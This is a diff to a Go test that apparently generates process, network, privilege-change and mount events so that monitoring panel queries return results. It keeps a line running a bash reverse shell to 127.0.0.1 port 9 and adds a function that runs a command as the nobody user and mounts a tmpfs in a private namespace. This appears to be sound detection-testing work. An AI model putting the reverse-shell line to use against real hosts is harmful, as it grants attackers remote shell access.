@@ -76,6 +76,7 @@ func happen(t *testing.T) {
 	}()
 	for n := range 10 {
 		require.NoError(t, exec.Command("/bin/true").Run())
+		changePrivileges(t)
 		c, err := (&net.Dialer{}).DialContext(context.Background(), "tcp4", listener.Addr().String())
 		require.NoError(t, err)
 		_, _ = fmt.Fprintln(c, "something")
@@ -84,6 +85,16 @@ func happen(t *testing.T) {
 		time.Sleep(200 * time.Millisecond)
 	}
 	_ = exec.Command("bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1").Run() // nobody listens there
+}
+
+// changePrivileges becomes somebody else, and mounts something where nobody else sees it.
+func changePrivileges(t *testing.T) {
+	t.Helper()
+	other := exec.Command("/bin/true")
+	other.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
+	require.NoError(t, other.Run())
+	printed, err := exec.Command("unshare", "--mount", "mount", "-t", "tmpfs", "none", t.TempDir()).CombinedOutput()
+	require.NoError(t, err, string(printed))
 }
 
 // TestQueries asks every query of every panel: each parses, and has a result unless it says when there is none.
